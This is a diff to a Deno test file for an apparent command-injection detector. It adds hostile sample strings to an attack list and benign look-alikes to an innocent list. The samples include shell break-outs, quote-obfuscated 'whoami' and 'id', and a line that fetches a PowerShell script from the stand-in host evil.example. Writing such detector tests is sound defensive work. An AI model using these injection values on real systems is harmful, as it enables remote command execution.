@@ -47,6 +47,13 @@ const ATTACKS: readonly string[] = [
   "x\\n/bin/ls -al\\n",
   "';sleep 10;'",
   "|+dir+c:%5c",
+  "for /f %a in ('dir /b') do echo %a",
+  "if not exist c:\\x.txt echo no",
+  "X=id;$X",
+  "alias a=curl",
+  "nohup ifconfig",
+  "w'h'o'a'm'i';id",
+  "&& iwr http://evil.example/a.ps1",
 ];
 
 const INNOCENT: readonly string[] = [
@@ -91,17 +98,20 @@ const INNOCENT: readonly string[] = [
   "Hello,\nI like this.\nmore later\nsort it out\nwho knows\nbye",
   "$IFS is the field separator",
   "print('hello')",
+  "if defined properly, it works",
+  "for each item in (a, b) do this",
+  "print(f\"{os.environ.get('HOME')}/cat\")",
   "call('id')?",
 ];
 
 Deno.test("rce detects commands that break out of a value", () => {
   for (const text of ATTACKS) assert.equal(pointsIn(rce, text), 5, text);
-  assert.equal(ATTACKS.length, 43);
+  assert.equal(ATTACKS.length, 50);
 });
 
 Deno.test("rce lets honest text pass at level 1", () => {
   for (const text of INNOCENT.slice(0, -1)) assert.deepEqual(rulesIn(rce, text), [], text);
-  assert.equal(INNOCENT.length, 42);
+  assert.equal(INNOCENT.length, 45);
 });
 
 Deno.test("rce reports a command line without a break-out at level 2", () => {
